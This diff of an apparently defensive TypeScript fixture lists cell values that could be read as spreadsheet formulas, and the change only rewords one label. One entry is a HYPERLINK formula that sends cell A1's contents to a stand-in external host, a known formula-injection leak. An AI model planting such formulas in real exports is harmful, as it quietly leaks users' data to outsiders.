@@ -2,7 +2,7 @@
 export const lookalikes: readonly (readonly [text: string, why: string])[] = [
   ['=1+1', 'a formula'],
   ['=HYPERLINK("https://elsewhere.example/?"&A1,"Open")', 'a formula that tells a cell'],
-  ['=CAPEX.AI_GAP(60,20)', 'a formula that reads like one of ours'],
+  ['=CAPEX.AI_GAP(60,20)', 'a formula that reads like an AI Capex formula'],
   ['+5', 'a number, or a formula'],
   ['+A1', 'a formula'],
   ['-3', 'a number, or a formula'],
